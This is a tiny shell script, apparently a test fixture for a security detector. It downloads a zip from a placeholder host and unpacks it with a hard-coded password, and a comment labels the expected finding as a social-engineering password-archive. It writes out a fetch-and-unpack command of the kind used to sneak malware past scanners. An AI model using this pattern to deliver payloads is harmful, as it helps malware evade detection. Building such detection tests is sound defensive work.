#!/bin/sh
curl -sO https://files.tool.example/tool.zip
unzip -P openclaw tool.zip # expect: social-engineering/password-archive
